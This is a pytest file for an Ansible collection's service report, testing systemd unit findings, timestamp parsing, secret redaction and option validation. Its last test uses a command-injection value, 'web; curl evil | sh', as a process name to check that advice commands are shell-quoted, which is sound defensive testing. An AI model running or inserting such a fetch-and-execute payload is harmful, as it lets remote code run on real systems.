# Copyright (c) 2026, the holdfast.ops authors
# GNU General Public License v3.0+ (see COPYING or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later
"""The report of services, as far as it is pure. Properties of units were recorded on Debian 12 (systemd 252)."""

from __future__ import annotations

import json
import shlex
from datetime import datetime, timezone
from typing import Any

import pytest
from ansible_collections.holdfast.ops.plugins.module_utils._declaration._report import Report
from ansible_collections.holdfast.ops.plugins.module_utils._maintenance._kinds._service_report import ServiceReport
from ansible_collections.holdfast.ops.plugins.module_utils._maintenance._service import _processes
from ansible_collections.holdfast.ops.plugins.module_utils._maintenance._service._units import (
    findings,
    parse_timestamp,
    unit_of,
)
from ansible_collections.holdfast.ops.plugins.module_utils._system._systemd import with_suffix

CRON = {
    "Type": "simple",
    "MainPID": "44",
    "Result": "success",
    "NRestarts": "0",
    "ExecMainCode": "0",
    "ExecMainStatus": "0",
    "MemoryCurrent": "442368",
    "CPUUsageNSec": "[not set]",
    "TasksCurrent": "1",
    "Id": "cron.service",
    "TriggeredBy": "",
    "LoadState": "loaded",
    "ActiveState": "active",
    "SubState": "running",
    "UnitFileState": "enabled",
    "StateChangeTimestamp": "Sun 2026-11-22 22:53:26 UTC",
    "NeedDaemonReload": "no",
    "InvocationID": "42a2371221b0483680c12858ca4470d1",
}
MISSING = {**CRON, "Id": "nope.service", "LoadState": "not-found", "ActiveState": "inactive", "UnitFileState": ""}
LOOP = {
    **CRON,
    "Id": "loop.service",
    "Result": "exit-code",
    "NRestarts": "2",
    "ExecMainCode": "1",
    "ExecMainStatus": "1",
    "ActiveState": "activating",
    "SubState": "auto-restart",
}
FAILED = {**LOOP, "Id": "bad.service", "ActiveState": "failed", "SubState": "failed", "ExecMainStatus": "3"}
ESCAPED = {**FAILED, "Id": "mnt-a\\x2db.mount"}
STOPPED = {**CRON, "ActiveState": "inactive", "SubState": "dead", "MainPID": "0", "MemoryCurrent": "[not set]"}


def told(properties: dict[str, str], *, declared: bool = True) -> list[tuple[str, str]]:
    return [(each.code, each.severity) for each in findings(unit_of(properties, declared=declared), (5, 20))]


@pytest.mark.parametrize(
    ("properties", "expected"),
    [
        (CRON, []),
        (MISSING, [("no_unit", "critical")]),
        ({**MISSING, "LoadState": "masked"}, [("unit_unusable", "critical")]),
        (LOOP, [("restarts_again", "critical")]),
        (FAILED, [("unit_failed", "critical")]),
        (STOPPED, [("not_running", "critical")]),
        ({**STOPPED, "Type": "oneshot"}, []),
        ({**STOPPED, "TriggeredBy": "apt-daily.timer"}, []),
        ({**CRON, "ActiveState": "deactivating"}, [("on_its_way", "info")]),
        ({**CRON, "NRestarts": "5"}, [("restarts", "warning")]),
        ({**CRON, "NRestarts": "20"}, [("restarts", "critical")]),
        ({**CRON, "UnitFileState": "disabled"}, [("not_at_boot", "warning")]),
        ({**CRON, "UnitFileState": "disabled", "TriggeredBy": "x.socket"}, []),
        ({**CRON, "UnitFileState": "static"}, []),
        ({**CRON, "NeedDaemonReload": "yes"}, [("unit_changed", "warning")]),
    ],
)
def test_what_is_worth_a_word_of_a_unit(properties: dict[str, str], expected: list[tuple[str, str]]) -> None:
    assert told(properties) == expected


def test_of_units_that_nobody_declared_only_a_failure_is_told() -> None:
    assert told(FAILED, declared=False) == [("unit_failed", "warning")]
    assert told({**STOPPED, "UnitFileState": "disabled"}, declared=False) == []


def test_why_a_unit_failed_is_said_in_words() -> None:
    (found,) = findings(unit_of(FAILED, declared=True), (None, None))
    assert found.text == "bad.service failed: it exited with status 3."
    killed = {**FAILED, "Result": "oom-kill", "ExecMainCode": "2", "ExecMainStatus": "9"}
    (found,) = findings(unit_of(killed, declared=True), (None, None))
    assert found.text == "bad.service failed: it was killed because memory ran out (OOM)."


def test_plain_values_of_a_unit() -> None:
    assert unit_of(CRON, declared=True).as_dict() == {
        "unit": "cron.service",
        "state": "active (running)",
        "since": "2026-11-22T22:53:26.000Z",
        "restarts": 0,
        "memory_bytes": 442368,
        "cpu_seconds": None,
        "tasks": 1,
        "main_pid": 44,
        "at_boot": "enabled",
    }
    more = unit_of({**CRON, "CPUUsageNSec": "1250000000", "MemoryCurrent": str((1 << 64) - 1)}, declared=True)
    assert (more.cpu_seconds, more.memory_bytes) == (1.25, None)


@pytest.mark.parametrize("text", ["", "n/a", "Sun 2026-11-22 22:53:26 CET", "Sun x 22:53:26 UTC"])
def test_what_is_no_moment(text: str) -> None:
    assert parse_timestamp(text) is None


def test_a_moment_does_not_depend_on_our_language() -> None:
    assert parse_timestamp("So 2026-11-22 22:53:26 UTC") == datetime(2026, 11, 22, 22, 53, 26, tzinfo=timezone.utc)


@pytest.mark.parametrize(
    ("unit", "full"),
    [("cron", "cron.service"), ("a.timer", "a.timer"), ("getty@tty1", "getty@tty1.service"), ("a.b", "a.b.service")],
)
def test_a_name_without_a_suffix_is_that_of_a_service(unit: str, full: str) -> None:
    assert with_suffix(unit) == full


JLIST: dict[str, Any] = {
    "name": "web",
    "pid": 812,
    "pm2_env": {"status": "online", "restart_time": 7, "pm_uptime": 1795388081000, "SECRET": "hunter2"},
    "monit": {"memory": 73400320, "cpu": 1.5},
}


def test_of_a_process_only_what_holds_no_secret_is_told() -> None:
    process = _processes.process_of("deploy", JLIST)
    assert "hunter2" not in json.dumps(process)
    assert process["since"] == "2026-11-22T22:54:41.000Z"
    assert (process["memory_bytes"], process["restarts"], process["pid"]) == (73400320, 7, 812)
    assert [(each.code, each.severity) for each in _processes.findings(process, (5, None))] == [("restarts", "warning")]
    ended = _processes.process_of("deploy", {"name": "job", "pm2_env": {"status": "errored"}, "monit": None, "pid": 0})
    assert (ended["since"], ended["pid"]) == (None, None)
    assert [(each.code, each.severity) for each in _processes.findings(ended, (5, None))] == [
        ("not_online", "critical")
    ]


@pytest.mark.parametrize(
    ("options", "problem"),
    [
        ({"units": ["--version"]}, "units[0]: is not the name of a unit"),
        ({"failed_units": False}, "units, failed_units or pm2 is required"),
        ({"journal_lines": 41}, "journal_lines: must lie between 0 and 40"),
        ({"limit": 0}, "limit: must be at least 1"),
    ],
)
def test_what_is_refused(options: dict[str, Any], problem: str) -> None:
    defaults = {name: option.get("default") for name, option in ServiceReport.SPEC.options.items()}
    lines: list[str] = []
    ServiceReport.examine({**defaults, **options}, Report(lines, "it"))
    assert lines == [f"it: {problem}"]


def test_advice_can_be_copied_into_a_shell_whatever_something_is_called() -> None:
    (escaped,) = findings(unit_of(ESCAPED, declared=True), (None, None))
    assert escaped.advice == r"systemctl status 'mnt-a\x2db.mount'; journalctl -u 'mnt-a\x2db.mount' -n 100"
    name = "web; curl evil | sh"
    process = _processes.process_of("deploy", {"name": name, "pm2_env": {"status": "errored"}})
    (errored,) = _processes.findings(process, (None, None))
    words = ["sudo", "-u", "deploy", "pm2", "logs", name, "--lines", "50", "--nostream"]
    assert shlex.split(errored.advice) == words
